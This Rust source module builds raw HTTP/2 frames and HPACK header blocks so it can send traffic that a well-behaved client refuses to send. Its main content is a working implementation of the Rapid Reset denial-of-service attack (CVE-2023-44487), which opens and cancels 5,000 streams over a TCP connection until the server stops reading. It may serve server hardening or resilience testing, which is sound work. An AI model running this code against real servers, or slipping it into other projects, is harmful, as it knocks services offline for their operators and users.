//! Hand-built HTTP/2 frames, for attacks a well-behaved client library will not send (rapid
//! reset, ignoring `SETTINGS_MAX_CONCURRENT_STREAMS`).

pub const DATA: u8 = 0;
pub const HEADERS: u8 = 1;
pub const RST_STREAM: u8 = 3;
pub const SETTINGS: u8 = 4;
pub const GOAWAY: u8 = 7;
pub const WINDOW_UPDATE: u8 = 8;
pub const END_STREAM: u8 = 0x1;
pub const END_HEADERS: u8 = 0x4;

/// One frame: 24-bit length, type, flags, 31-bit stream id, payload.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = payload.len() as u32;
    let mut out = vec![(len >> 16) as u8, (len >> 8) as u8, len as u8, kind, flags];
    out.extend_from_slice(&(stream & 0x7fff_ffff).to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// HPACK integer with an `n`-bit prefix (RFC 7541 §5.1).
fn int(first: u8, n: u32, mut value: usize, out: &mut Vec<u8>) {
    let max = (1usize << n) - 1;
    if value < max {
        out.push(first | value as u8);
        return;
    }
    out.push(first | max as u8);
    value -= max;
    while value >= 128 {
        out.push((value % 128 + 128) as u8);
        value /= 128;
    }
    out.push(value as u8);
}

fn string(text: &str, out: &mut Vec<u8>) {
    int(0, 7, text.len(), out);
    out.extend_from_slice(text.as_bytes());
}

/// A GET header block: literals without indexing, no Huffman.
pub fn get_block(authority: &str, path: &str, headers: &[(&str, &str)]) -> Vec<u8> {
    let mut out = vec![0x82, 0x86]; // :method GET, :scheme http
    int(0, 4, 4, &mut out); // :path, indexed name
    string(path, &mut out);
    int(0, 4, 1, &mut out); // :authority, indexed name
    string(authority, &mut out);
    for (name, value) in headers {
        out.push(0);
        string(name, &mut out);
        string(value, &mut out);
    }
    out
}

/// 100 streams opened and cancelled at once (CVE-2023-44487), stream ids from `1 + 200 * batch`:
/// HEADERS carrying `block` with END_STREAM, then RST_STREAM CANCEL, for each.
pub fn rapid_reset_burst(batch: u32, block: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for i in 0..100u32 {
        let id = 1 + 2 * (batch * 100 + i);
        bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, block));
        bytes.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes())); // CANCEL
    }
    bytes
}

/// Sends 50 [`rapid_reset_burst`]s (5,000 streams opened and cancelled) until the server stops
/// reading; returns how many streams were sent.
pub async fn rapid_reset(stream: &mut tokio::net::TcpStream, block: &[u8]) -> u32 {
    use tokio::io::AsyncWriteExt;
    let mut sent = 0u32;
    for batch in 0..50u32 {
        if stream
            .write_all(&rapid_reset_burst(batch, block))
            .await
            .is_err()
        {
            break;
        }
        sent += 100;
    }
    sent
}
